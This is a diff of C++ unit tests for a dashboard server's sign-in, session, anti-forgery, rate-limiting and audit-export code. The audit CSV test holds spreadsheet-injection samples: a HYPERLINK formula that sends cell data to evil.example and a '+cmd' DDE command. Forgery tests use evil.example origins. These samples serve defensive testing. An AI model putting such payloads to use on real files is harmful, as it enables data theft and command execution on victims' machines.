@@ -5,6 +5,7 @@
 #include "serverenv.h"
 #include "serverprocess.h"
 
+#include "admin.h"
 #include "audit.h"
 #include "board.h"
 #include "metrics.h"
@@ -12,11 +13,16 @@
 #include <httplib.h>
 
 #include <QCoreApplication>
+#include <QCryptographicHash>
 #include <QDate>
+#include <QDateTime>
 #include <QFile>
+#include <QJsonDocument>
 #include <QProcess>
 #include <QRegularExpression>
 #include <QSet>
+
+#include <functional>
 
 namespace {
 
@@ -32,7 +38,27 @@ struct Page {
         return it == headers.end() ? std::string() : it->second;
     }
     bool has(const QString &text) const { return QString::fromStdString(body).contains(text); }
+    // "name=value" of the cookie `name` the answer sets.
+    std::string setCookie(const std::string &name) const
+    {
+        const auto range = headers.equal_range("Set-Cookie");
+        for (auto it = range.first; it != range.second; ++it) {
+            if (it->second.rfind(name + "=", 0) == 0)
+                return it->second.substr(0, it->second.find(';'));
+        }
+        return {};
+    }
 };
+
+// The text between `before` and the next `after`.
+std::string between(const std::string &text, const std::string &before, const std::string &after)
+{
+    const size_t start = text.find(before);
+    if (start == std::string::npos)
+        return {};
+    const size_t end = text.find(after, start + before.size());
+    return text.substr(start + before.size(), end - start - before.size());
+}
 
 class ServerBoard : public SampleServerTest {
 protected:
@@ -43,6 +69,11 @@ protected:
     Page ask(const std::string &method, const std::string &path, const httplib::Headers &headers = {},
              const httplib::Params &params = {}, const std::string &address = "127.0.0.1")
     {
+        return askOf(m_board, method, path, headers, params, address);
+    }
+    Page askOf(server::Board &board, const std::string &method, const std::string &path, const httplib::Headers &headers = {},
+               const httplib::Params &params = {}, const std::string &address = "127.0.0.1")
+    {
         httplib::Request req;
         req.method = method;
         req.path = path;
@@ -50,11 +81,29 @@ protected:
         req.params = params;
         req.remote_addr = address;
         httplib::Response res;
-        m_board.serve(db(), req, res);
+        board.serve(db(), req, res);
         return {res.status, res.body, res.headers};
     }
     httplib::Headers bearer() const { return {{"Authorization", "Bearer " + kToken.toStdString()}}; }
-    httplib::Headers cookie() const { return {{"Cookie", "x=1; homologa_painel=" + m_board.sessionValue().toStdString()}}; }
+    // The sign-in form's post, as the browser sends it from the board's page.
+    Page postSignIn(const std::string &token, const std::string &address = "127.0.0.1", server::Board *board = nullptr,
+                    const std::string &operatorCode = {})
+    {
+        server::Board &to = board ? *board : m_board;
+        const Page form = askOf(to, "GET", "/painel", {}, {}, address);
+        return askOf(to, "POST", "/painel/entrar",
+                     {{"Host", "painel.exemplo:8090"}, {"Origin", "http://painel.exemplo:8090"}, {"Cookie", form.setCookie("homologa_entrada")}},
+                     {{"token", token}, {"operador", operatorCode},
+                      {"antifalsificacao", between(form.body, "name=\"antifalsificacao\" value=\"", "\"")}},
+                     address);
+    }
+    // Signs in; the header that carries the session's cookie.
+    httplib::Headers cookie(const std::string &address = "127.0.0.1")
+    {
+        const Page signedIn = postSignIn(kToken.toStdString() + "\n", address);
+        EXPECT_EQ(signedIn.status, 303) << signedIn.body;
+        return {{"Cookie", "x=1; " + signedIn.setCookie("homologa_painel")}};
+    }
 
     // The codes of the groups whose cards are in the board's column of `phase`.
     QStringList cardsIn(const Page &page, const QString &phase)
@@ -106,32 +155,203 @@ TEST_F(ServerBoard, OnlyASignedInVisitorSeesData)
     }
 }
 
-TEST_F(ServerBoard, SignInSetsAHardenedCookieAndIsLimited)
+TEST_F(ServerBoard, SignInSetsAHardenedSessionCookie)
 {
-    Page page = ask("POST", "/painel/entrar", {}, {{"token", kToken.toStdString() + "\n"}});
+    const Page page = postSignIn(kToken.toStdString());
     EXPECT_EQ(page.status, 303);
     EXPECT_EQ(page.header("Location"), "/painel");
-    const std::string cookieHeader = page.header("Set-Cookie");
-    EXPECT_NE(cookieHeader.find("homologa_painel=" + m_board.sessionValue().toStdString()), std::string::npos);
-    EXPECT_NE(cookieHeader.find("HttpOnly"), std::string::npos);
-    EXPECT_NE(cookieHeader.find("SameSite=Strict"), std::string::npos);
-    EXPECT_EQ(cookieHeader.find("Secure"), std::string::npos) << "plain HTTP";
-    EXPECT_EQ(cookieHeader.find(kToken.toStdString()), std::string::npos) << "the token itself never goes into the cookie";
+    const std::string session = page.setCookie("homologa_painel");
+    const std::string id = session.substr(session.find('=') + 1);
+    EXPECT_GE(id.size(), 40u);
+    std::string attributes;
+    for (auto it = page.headers.lower_bound("Set-Cookie"); it != page.headers.upper_bound("Set-Cookie"); ++it)
+        attributes += it->second.rfind("homologa_painel=", 0) == 0 ? it->second : std::string();
+    EXPECT_NE(attributes.find("HttpOnly"), std::string::npos);
+    EXPECT_NE(attributes.find("SameSite=Strict"), std::string::npos);
+    EXPECT_EQ(attributes.find("Secure"), std::string::npos) << "plain HTTP";
+    EXPECT_EQ(attributes.find(kToken.toStdString()), std::string::npos) << "the token itself never goes into the cookie";
+    // Each sign-in its own id, kept on the server only as its hash.
+    EXPECT_NE(postSignIn(kToken.toStdString()).setCookie("homologa_painel"), session);
+    EXPECT_EQ(db().scalar(QStringLiteral("SELECT COUNT(*) FROM SESSAOPAINEL")).toInt(), 2);
+    EXPECT_EQ(db().scalar(QStringLiteral("SELECT COUNT(*) FROM SESSAOPAINEL WHERE CDSESSAO = ?"), {QString::fromStdString(id)}).toInt(), 0);
+
+    // An operator may say who signs in; one that does not exist is refused.
+    EXPECT_EQ(postSignIn(kToken.toStdString(), "127.0.0.1", nullptr, "0002").status, 303);
+    EXPECT_EQ(postSignIn(kToken.toStdString(), "127.0.0.1", nullptr, "9999").status, 400);
+    const QStringList sessions = server::sessionLines(db());
+    EXPECT_EQ(sessions.size(), 4);
+    EXPECT_EQ(sessions.filter(QStringLiteral("operador 0002")).size(), 1) << sessions.join(u'\n').toStdString();
+    EXPECT_EQ(sessions.filter(QStringLiteral("visualizador do painel")).size(), 2);
 
     server::Board tlsBoard(kToken, true, m_metrics);
-    httplib::Request req;
-    req.method = "POST";
-    req.path = "/painel/entrar";
-    req.params = {{"token", kToken.toStdString()}};
-    httplib::Response res;
-    tlsBoard.serve(db(), req, res);
-    EXPECT_NE(res.get_header_value("Set-Cookie").find("; Secure"), std::string::npos);
+    const Page secure = postSignIn(kToken.toStdString(), "127.0.0.1", &tlsBoard);
+    for (auto it = secure.headers.lower_bound("Set-Cookie"); it != secure.headers.upper_bound("Set-Cookie"); ++it)
+        EXPECT_NE(it->second.find("; Secure"), std::string::npos) << it->second;
+}
 
-    // Wrong tokens from one address: refused, then not even tried; another address may still sign in.
-    for (int i = 0; i < server::Board::kMaxFailedSignIns; ++i)
-        EXPECT_EQ(ask("POST", "/painel/entrar", {}, {{"token", "errado"}}, "10.0.0.9").status, 401);
-    EXPECT_EQ(ask("POST", "/painel/entrar", {}, {{"token", kToken.toStdString()}}, "10.0.0.9").status, 429);
-    EXPECT_EQ(ask("POST", "/painel/entrar", {}, {{"token", kToken.toStdString()}}, "10.0.0.10").status, 303);
+// A session lives from its sign-in until it is left idle, outlives its lifetime, is signed
+// out or revoked; a copy of its cookie, sent from elsewhere, lives exactly as long.
+TEST_F(ServerBoard, SessionsEnd)
+{
+    const QString group = createGroup(QStringLiteral("Grupo da sessão"));
+    // What `sessions revoke` takes for the session of a cookie, and for another session.
+    const auto idOf = [](const httplib::Headers &cookie) {
+        const std::string value = cookie.find("Cookie")->second;
+        return QString::fromLatin1(QCryptographicHash::hash(QByteArray::fromStdString(value.substr(value.find("homologa_painel=") + 16)),
+                                                            QCryptographicHash::Sha256)
+                                       .toHex()
+                                       .left(12));
+    };
+    const auto age = [&](const char *column, int seconds) {
+        db().exec(QStringLiteral("UPDATE SESSAOPAINEL SET %1 = ?").arg(QLatin1String(column)),
+                  {QDateTime::currentDateTime().addSecs(seconds).toString(QStringLiteral("yyyy-MM-ddTHH:mm:ss"))});
+    };
+    struct Case {
+        const char *what;
+        std::function<void(const httplib::Headers &)> then;
+        bool alive;
+    };
+    const Case cases[] = {
+        {"in use", [](const httplib::Headers &) {}, true},
+        {"idle, within the limit", [&](const httplib::Headers &) { age("DTULTIMOUSO", -60 * 60); }, true},
+        {"idle past the limit", [&](const httplib::Headers &) { age("DTULTIMOUSO", -3 * 60 * 60); }, false},
+        {"past its lifetime", [&](const httplib::Headers &) { age("DTEXPIRACAO", -1); }, false},
+        {"signed out", [&](const httplib::Headers &c) { EXPECT_EQ(get("/painel/sair", c).status, 303); }, false},
+        {"revoked", [&](const httplib::Headers &c) { EXPECT_EQ(server::revokeSessions(db(), idOf(c)), 1); }, false},
+        {"another one revoked", [&](const httplib::Headers &) { EXPECT_EQ(server::revokeSessions(db(), idOf(cookie())), 1); }, true},
+    };
+    for (const Case &c : cases) {
+        db().exec(QStringLiteral("DELETE FROM SESSAOPAINEL"));
+        const httplib::Headers session = cookie();
+        ASSERT_TRUE(get("/painel/grupo/" + group.toStdString(), session).has(QStringLiteral("Grupo da sessão"))) << c.what;
+        c.then(session);
+        // The cookie copied to another machine.
+        const Page copied = ask("GET", "/painel/grupo/" + group.toStdString(), session, {}, "10.20.30.40");
+        EXPECT_EQ(copied.status, c.alive ? 200 : 401) << c.what;
+        EXPECT_EQ(copied.has(QStringLiteral("Grupo da sessão")), c.alive) << c.what;
+    }
+    // Ended sessions are not guesses: the address is not held back for them.
+    EXPECT_EQ(m_board.limit().waitFor("10.20.30.40"), 0);
+}
+
+TEST_F(ServerBoard, SignInComesOnlyFromTheBoardsOwnForm)
+{
+    const Page form = get("/painel");
+    const std::string formCookie = form.setCookie("homologa_entrada");
+    const std::string value = between(form.body, "name=\"antifalsificacao\" value=\"", "\"");
+    ASSERT_FALSE(value.empty());
+    ASSERT_EQ(formCookie, "homologa_entrada=" + value);
+    struct Case {
+        const char *what;
+        httplib::Headers headers;
+        std::string field;
+        int status;
+    };
+    const httplib::Headers host{{"Host", "painel.exemplo"}, {"Cookie", formCookie}};
+    const auto with = [&](httplib::Headers headers, std::initializer_list<std::pair<std::string, std::string>> more) {
+        headers.insert(more.begin(), more.end());
+        return headers;
+    };
+    const Case cases[] = {
+        {"from the board's page", with(host, {{"Origin", "http://painel.exemplo"}}), value, 303},
+        {"its Referer, no Origin", with(host, {{"Referer", "https://painel.exemplo/painel"}}), value, 303},
+        {"another site", with(host, {{"Origin", "http://evil.example"}}), value, 403},
+        {"a site whose name begins like it", with(host, {{"Origin", "http://painel.exemplo.evil.example"}}), value, 403},
+        {"an opaque origin", with(host, {{"Origin", "null"}}), value, 403},
+        {"neither Origin nor Referer", host, value, 403},
+        {"without the form's value", with(host, {{"Origin", "http://painel.exemplo"}}), "", 403},
+        {"another form's value", with(host, {{"Origin", "http://painel.exemplo"}}), value + "x", 403},
+        {"without the form's cookie", {{"Host", "painel.exemplo"}, {"Origin", "http://painel.exemplo"}}, value, 403},
+    };
+    for (const Case &c : cases) {
+        for (int i = 0; i < (c.status == 403 ? 3 : 1); ++i) {
+            const Page page = ask("POST", "/painel/entrar", c.headers, {{"token", kToken.toStdString()}, {"antifalsificacao", c.field}},
+                                  "10.0.0.7");
+            EXPECT_EQ(page.status, c.status) << c.what;
+        }
+    }
+    // Forged posts do not count against the office's address.
+    EXPECT_EQ(m_board.limit().waitFor("10.0.0.7"), 0);
+}
+
+// One limit for every door a token comes through, per client address: after the free
+// failures the address waits, even with the right token; other addresses do not.
+TEST_F(ServerBoard, WrongTokensAreLimitedAtEveryDoorPerAddress)
+{
+    const std::string right = kToken.toStdString();
+    server::Board proxied(kToken, false, m_metrics, nullptr, "10.9.9.9");
+    struct Door {
+        const char *what;
+        std::function<int(const std::string &token, const std::string &peer, const std::string &forwarded)> present;
+        int wrong;  // the answer to a wrong token
+        int rightOk;
+    };
+    const auto bearerOn = [&](const std::string &path, server::Board &board) {
+        return [&, path](const std::string &token, const std::string &peer, const std::string &forwarded) {
+            httplib::Headers headers{{"Authorization", "Bearer " + token}};
+            if (!forwarded.empty())
+                headers.emplace("X-Forwarded-For", forwarded);
+            return askOf(board, "GET", path, headers, {}, peer).status;
+        };
+    };
+    const Door doors[] = {
+        {"the sign-in form", [&](const std::string &token, const std::string &peer, const std::string &) { return postSignIn(token, peer).status; }, 401, 303},
+        {"Bearer on the metrics", bearerOn("/metricas", m_board), 401, 200},
+        {"Bearer on the audit", bearerOn("/painel/auditoria", m_board), 401, 200},
+        {"Bearer on the board", bearerOn("/painel", m_board), 200, 200},
+        {"the session cookie",
+         [&](const std::string &token, const std::string &peer, const std::string &) {
+             return ask("GET", "/painel/colunas", token == right ? cookie("10.99.0.1") : httplib::Headers{{"Cookie", "homologa_painel=" + token}},
+                        {}, peer)
+                 .status;
+         },
+         401, 200},
+        {"behind the trusted proxy", bearerOn("/metricas", proxied), 401, 200},
+    };
+    int n = 0;
+    for (const Door &door : doors) {
+        const bool proxy = std::string(door.what).find("proxy") != std::string::npos;
+        const std::string address = "192.0.2." + std::to_string(++n);
+        const std::string peer = proxy ? "10.9.9.9" : address;
+        const std::string forwarded = proxy ? "198.51.100.1, " + address : std::string();
+        for (int i = 0; i < server::AttemptLimit::kFreeFailures; ++i)
+            EXPECT_EQ(door.present("errado", peer, forwarded), door.wrong) << door.what;
+        EXPECT_EQ(door.present(right, peer, forwarded), 429) << door.what << ": the right token waits too";
+        EXPECT_EQ(door.present(right, proxy ? peer : "192.0.2.200", proxy ? "198.51.100.1, 192.0.2.201" : std::string()), door.rightOk)
+            << door.what << ": another address";
+    }
+    // An address named by a peer that is not the trusted proxy is not believed.
+    EXPECT_EQ(askOf(proxied, "GET", "/metricas", {{"Authorization", "Bearer " + right}, {"X-Forwarded-For", "192.0.2.6"}}, {}, "10.8.8.8").status,
+              200);
+}
+
+TEST(AttemptLimit, WaitsGrowWithEachFailure)
+{
+    server::AttemptLimit limit;
+    const int waits[] = {0, 0, 0, 0, 1, 2, 4, 8};
+    for (int wait : waits) {
+        limit.failed("a");
+        EXPECT_EQ(limit.waitFor("a"), wait);
+        EXPECT_EQ(limit.waitFor("b"), 0);
+    }
+    limit.succeeded("a");
+    EXPECT_EQ(limit.waitFor("a"), 0);
+}
+
+TEST(BearerToken, SchemeInAnyCaseAndBlanksAsHttpAllows)
+{
+    const std::pair<const char *, const char *> cases[] = {
+        {"Bearer abc", "abc"},  {"bearer abc", "abc"},   {"BEARER abc", "abc"}, {"Bearer  abc", "abc"},
+        {" Bearer abc ", "abc"}, {"Bearer\tabc", "abc"}, {"Bearer", nullptr},    {"Bearer ", nullptr},
+        {"Bearerabc", nullptr}, {"Basic abc", nullptr},  {"Bearer a\x01" "b", nullptr},
+    };
+    for (const auto &[header, token] : cases) {
+        const auto parsed = server::bearerToken(header);
+        EXPECT_EQ(parsed.has_value(), token != nullptr) << header;
+        if (parsed && token) {
+            EXPECT_EQ(std::string(*parsed), token) << header;
+        }
+    }
 }
 
 TEST_F(ServerBoard, TextsFromTheDatabaseAreEscaped)
@@ -193,6 +413,47 @@ TEST_F(ServerBoard, EachGroupIsInTheColumnOfItsPhaseAndClosedOnesInTheHistory)
     EXPECT_TRUE(cardsIn(get("/painel", cookie()), QStringLiteral("006")).isEmpty());
 }
 
+// Each column shows its newest groups and links to the rest; a refresh gets nothing when
+// nothing changed, and only the changed columns after a change.
+TEST_F(ServerBoard, ColumnsShowTheNewestAndRefreshOnlyWhatChanged)
+{
+    QStringList codes;
+    for (int i = 0; i < server::Board::kCardsPerColumn + 2; ++i)
+        codes.prepend(createGroup(QStringLiteral("Grupo %1").arg(i)));
+    const httplib::Headers session = cookie();
+    const Page board = get("/painel", session);
+    EXPECT_EQ(cardsIn(board, QStringLiteral("001")), codes.mid(0, server::Board::kCardsPerColumn));
+    EXPECT_TRUE(board.has(QStringLiteral("(%1)").arg(codes.size())));
+    EXPECT_TRUE(board.has(QStringLiteral("href=\"/painel/fase/001\">Mais 2 grupos nesta fase")));
+    const Page rest = get("/painel/fase/001", session);
+    EXPECT_TRUE(rest.has(codes.last()) && rest.has(codes.first())) << rest.body;
+
+    QStringList versions;
+    static const QRegularExpression section(QStringLiteral("data-fase=\"(\\d+)\" data-versao=\"(\\w+)\""));
+    for (const QRegularExpressionMatch &m : section.globalMatch(QString::fromStdString(board.body)))
+        versions.append(m.captured(1) + u':' + m.captured(2));
+    ASSERT_EQ(versions.size(), 6);
+    const httplib::Params known{{"versoes", versions.join(u',').toStdString()}};
+    const Page columns = get("/painel/colunas", session, known);
+    EXPECT_EQ(columns.status, 200);
+    EXPECT_TRUE(columns.body.empty()) << "the page has every column";
+    httplib::Headers tagged = session;
+    tagged.emplace("If-None-Match", columns.header("ETag"));
+    EXPECT_EQ(get("/painel/colunas", tagged, known).status, 304);
+    advance(codes.first());
+    const Page changed = get("/painel/colunas", tagged, known);
+    EXPECT_EQ(changed.status, 200);
+    EXPECT_EQ(cardsIn(changed, QStringLiteral("002")), QStringList{codes.first()});
+    EXPECT_EQ(QString::fromStdString(changed.body).count(QStringLiteral("<section")), 2) << "001 and 002 only";
+    // A change made through another connection (another server, a command) is seen too.
+    if (!testingPostgres()) {
+        const std::unique_ptr<server::Database> other = database().connect();
+        other->ensureOpen();
+        other->exec(QStringLiteral("UPDATE GRUPOHOMOL SET DSGRUPHOMOL = 'Renomeado por fora' WHERE CDGRUPHOMOL = ?"), {codes.first()});
+        EXPECT_TRUE(get("/painel/colunas", tagged, known).has(QStringLiteral("Renomeado por fora")));
+    }
+}
+
 TEST_F(ServerBoard, NothingOnTheBoardWrites)
 {
     const QString group = createGroup(QStringLiteral("Só leitura"));
@@ -224,6 +485,104 @@ TEST_F(ServerBoard, AuditCsvQuotesWhatWouldSplitAField)
     EXPECT_EQ(server::auditCsv({}).count("\r\n"), 1);
 }
 
+// A field a spreadsheet would evaluate is written as text; the JSON keeps it exact.
+TEST(AuditCsv, NeutralisesWhatASpreadsheetWouldEvaluate)
+{
+    const std::pair<QString, QString> cases[] = {
+        {QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&A1;\"ver\")"),
+         QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"ver\"\")\"")},
+        {QStringLiteral("@SUM(1+1)"), QStringLiteral("'@SUM(1+1)")},
+        {QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("'+cmd|' /C calc'!A0")},
+        {QStringLiteral("-2+3"), QStringLiteral("'-2+3")},
+        {QStringLiteral("\tSUM(A1)"), QStringLiteral("'\tSUM(A1)")},
+        {QStringLiteral("\r=1"), QStringLiteral("\"'\r=1\"")},
+        {QStringLiteral("a=b+c"), QStringLiteral("a=b+c")},
+        {QStringLiteral("testado, ok"), QStringLiteral("testado, ok")},
+    };
+    for (const auto &[text, field] : cases) {
+        const QList<server::AuditRow> rows{{QStringLiteral("2026-12-01T10:00:00"),
+                                            {server::eventKind::Justification, {}, {}, {}, {}, {}, {}, {}, text}}};
+        EXPECT_TRUE(QString::fromUtf8(server::auditCsv(rows)).endsWith(u';' + field + QStringLiteral("\r\n"))) << text.toStdString();
+        EXPECT_EQ(QJsonDocument::fromJson(server::auditJson(rows)).array()[0][QStringLiteral("detalhe")].toString(), text);
+    }
+}
+
+// The homologation names its operator for every group it changes: the one it closes and
+// the ones of the same release it sends back, with their requests.
+TEST_F(ServerBoard, AuditNamesTheOperatorOfAGroupSentBack)
+{
+    const QString closing = createGroup(QStringLiteral("Homologado"));
+    const QString sentBack = createGroup(QStringLiteral("Devolvido"));
+    addRequests(sentBack, {QStringLiteral("0000000102")});
+    const QMap<QString, QVariant> release{{QStringLiteral("CDRELEASEGHOM"), QStringLiteral("501023")}};
+    advance(closing, release);
+    advance(sentBack, release);
+    for (int i = 0; i < 4; ++i)
+        advance(closing);
+    ok(QStringLiteral("takeGroupLease"), args({closing, QStringLiteral("006"), QStringLiteral("0002"), QStringLiteral("estacao")}));
+    ok(QStringLiteral("Encerra_Grupos"), args({closing + u','}));
+    int named = 0;
+    for (const server::AuditRow &row : server::auditTrail(db(), {{}, {}, {}, sentBack})) {
+        const server::Event &e = row.event;
+        if (e.after.startsWith(QStringLiteral("001 ")) || e.detail.contains(QStringLiteral("voltou à fase inicial"))) {
+            EXPECT_EQ(e.operatorCode, QStringLiteral("0002")) << e.kind.toStdString();
+            ++named;
+        }
+    }
+    EXPECT_EQ(named, 2) << "the group's phase and its request's";
+    EXPECT_TRUE(get("/painel", cookie()).has(QStringLiteral("002 → 001, por Bruno Consulta")));
+}
+
+// A group's page tells its whole story in time order, with who did each thing; a log and a
+// phase change of the same advance are one row, and a group that went the same way twice
+// keeps both.
+TEST_F(ServerBoard, GroupTimelineInTimeOrder)
+{
+    const QString group = createGroup(QStringLiteral("Linha do tempo"));
+    const auto event = [&](const char *time, const QString &kind, const QString &op, const QString &before, const QString &after,
+                           const QString &detail = {}) {
+        db().exec(QStringLiteral("INSERT INTO EVENTO (DTEVENTO, TPEVENTO, CDOPERADOR, CDGRUPHOMOL, CDPRODUTO, CDFILIAL, NRSOLISERV, "
+                                 "DSANTES, DSDEPOIS, TXDETALHE) VALUES (?, ?, ?, ?, ?, '0001', '0000000101', ?, ?, ?)"),
+                  {QString::fromLatin1(time), kind, op, group, kProduct, before, after, detail});
+    };
+    const auto log = [&](const char *time, const QString &from, const QString &to) {
+        db().exec(QStringLiteral("INSERT INTO LOGTRAM (CDGRUPHOMOL, NRSEQLOG, CDOPERADOR, DTLOGTRAM, IDSTGRUPANT, IDSTGRUPNOVO, TXLOGTRAM) "
+                                 "VALUES (?, (SELECT COALESCE(MAX(NRSEQLOG), 0) + 1 FROM LOGTRAM), '0001', ?, ?, ?, 'log')"),
+                  {group, QString::fromLatin1(time), from, to});
+    };
+    const QString p1 = QStringLiteral("001"), p2 = QStringLiteral("002");
+    db().exec(QStringLiteral("DELETE FROM EVENTO WHERE CDGRUPHOMOL = ?"), {group});
+    log("2026-11-01T09:00:05", p1, p2);  // the first advance's log
+    event("2026-11-01T09:00:00", server::eventKind::GroupPhase, {}, p1, p2);
+    event("2026-11-02T10:00:00", server::eventKind::Tag, QStringLiteral("0002"), {}, QStringLiteral("TST_1"));
+    event("2026-11-03T10:00:00", server::eventKind::GroupPhase, QStringLiteral("0001"), p2, p1);
+    event("2026-11-05T10:00:00", server::eventKind::GroupPhase, QStringLiteral("0001"), p1, p2);
+    event("2026-11-06T10:00:00", server::eventKind::Decision, {}, {}, QStringLiteral("Homologar"));
+    event("2026-11-06T10:05:00", server::eventKind::Justification, QStringLiteral("0002"), {}, {}, QStringLiteral("testado"));
+    log("2026-11-09T10:00:00", p1, p2);  // a log written long after any phase change of its kind
+
+    const std::string html = get("/painel/grupo/" + group.toStdString(), cookie()).body;
+    const std::string timeline = between(html, "class=\"linha-do-tempo\"", "</table>");
+    QStringList order;
+    static const QRegularExpression row(QStringLiteral("<tr><td>([0-9-]+ [0-9:]+)</td><td>([^<]+)</td><td>([^<]*)</td>"));
+    for (const QRegularExpressionMatch &m : row.globalMatch(QString::fromStdString(timeline)))
+        order.append(m.captured(1).left(10) + u' ' + m.captured(2) + u' ' + m.captured(3));
+    const QStringList expected{
+        QStringLiteral("2026-11-01 fase do grupo Ana Operadora"),   // the log's operator, one row with its event
+        QStringLiteral("2026-11-02 tag Bruno Consulta"),
+        QStringLiteral("2026-11-03 fase do grupo Ana Operadora"),
+        QStringLiteral("2026-11-05 fase do grupo Ana Operadora"),
+        QStringLiteral("2026-11-06 decisão Bruno Consulta"),        // named by the justification given next
+        QStringLiteral("2026-11-06 justificativa Bruno Consulta"),
+        QStringLiteral("2026-11-09 fase do grupo Ana Operadora"),
+    };
+    EXPECT_EQ(order, expected) << timeline;
+    EXPECT_NE(timeline.find("testado</td></tr>"), std::string::npos);
+    // The path through the phases: 001, 002, 001, 002, 002.
+    const std::string svg = between(html, "<svg", "</svg>");
+    EXPECT_EQ(QString::fromStdString(between(svg, "<polyline points=\"", "\"")).split(u' ', Qt::SkipEmptyParts).size(), 5);
+}
+
 TEST_F(ServerBoard, AuditFiltersByDayAndProduct)
 {
     const QString group = createGroup(QStringLiteral("Filtrado"));
@@ -238,12 +597,12 @@ TEST_F(ServerBoard, AuditFiltersByDayAndProduct)
         return count;
     };
     EXPECT_EQ(tags({}), 1);
-    EXPECT_EQ(tags({today, today, {}}), 1);
-    EXPECT_EQ(tags({tomorrow, {}, {}}), 0);
-    EXPECT_EQ(tags({{}, yesterday, {}}), 0);
-    EXPECT_EQ(tags({{}, {}, kProduct}), 1);
-    EXPECT_EQ(tags({{}, {}, QStringLiteral("0000000002")}), 0);
-    EXPECT_THROW(server::auditTrail(db(), {QStringLiteral("07/12/2026"), {}, {}}), server::ServerError);
+    EXPECT_EQ(tags({today, today, {}, {}}), 1);
+    EXPECT_EQ(tags({tomorrow, {}, {}, {}}), 0);
+    EXPECT_EQ(tags({{}, yesterday, {}, {}}), 0);
+    EXPECT_EQ(tags({{}, {}, kProduct, {}}), 1);
+    EXPECT_EQ(tags({{}, {}, QStringLiteral("0000000002"), {}}), 0);
+    EXPECT_THROW(server::auditTrail(db(), {QStringLiteral("07/12/2026"), {}, {}, {}}), server::ServerError);
     EXPECT_FALSE(refused(QStringLiteral("setTagGrupo"), args({group, QStringLiteral("0001"), QStringLiteral(" "), QStringLiteral("N")}))
                      .isEmpty());
 }
@@ -320,6 +679,43 @@ TEST_F(ServerBoard, MetricsAndHealthOverHttp)
     const auto down = client.Get("/saude");
     ASSERT_TRUE(down);
     EXPECT_EQ(down->status, 503);
+}
+
+// Over HTTP: the scheme in any case on every path; 40 wrong tokens on the metrics meet the
+// limit, which then holds on the API too; behind the trusted proxy each client counts alone.
+TEST_F(ServerBoard, WrongTokensMeetTheLimitOverHttp)
+{
+    if (testingPostgres())
+        GTEST_SKIP() << "the HTTP tests run on the SQLite file";
+    QTemporaryDir dir;
+    ServerProcess server;
+    ASSERT_TRUE(server.start(database().text(), writePrivateFile(dir.filePath(QStringLiteral("token")), kToken),
+                             {QStringLiteral("--trusted-proxy"), QStringLiteral("127.0.0.1")}))
+        << server.error().toStdString();
+    httplib::Client client("127.0.0.1", server.port());
+    const std::string call = "/VOP42000.rdmGrupSoliHom/getReleaseProd";
+    const auto from = [](const std::string &client, const std::string &authorization) {
+        return httplib::Headers{{"X-Forwarded-For", client}, {"Authorization", authorization}};
+    };
+    for (const std::string scheme : {"Bearer ", "bearer ", "BEARER ", "Bearer  "}) {
+        EXPECT_EQ(client.Get("/metricas", from("198.51.100.1", scheme + kToken.toStdString()))->status, 200) << scheme;
+        EXPECT_EQ(client.Get("/painel/colunas", from("198.51.100.1", scheme + kToken.toStdString()))->status, 200) << scheme;
+        EXPECT_EQ(client.Post(call, from("198.51.100.1", scheme + kToken.toStdString()), R"({"args":["0000000001"]})", "application/json")->status,
+                  200)
+            << scheme;
+    }
+    int limited = 0;
+    for (int i = 0; i < 40; ++i) {
+        const auto answer = client.Get("/metricas", from("198.51.100.7", "Bearer errado"));
+        ASSERT_TRUE(answer);
+        limited += answer->status == 429 ? 1 : 0;
+    }
+    EXPECT_GE(limited, 30);
+    const auto api = client.Post(call, from("198.51.100.7", "Bearer " + kToken.toStdString()), R"({"args":["0000000001"]})", "application/json");
+    ASSERT_TRUE(api);
+    EXPECT_EQ(api->status, 429);
+    EXPECT_EQ(client.Post(call, from("198.51.100.8", "Bearer " + kToken.toStdString()), R"({"args":["0000000001"]})", "application/json")->status,
+              200);
 }
 
 TEST_F(ServerBoard, AuditCommandLine)
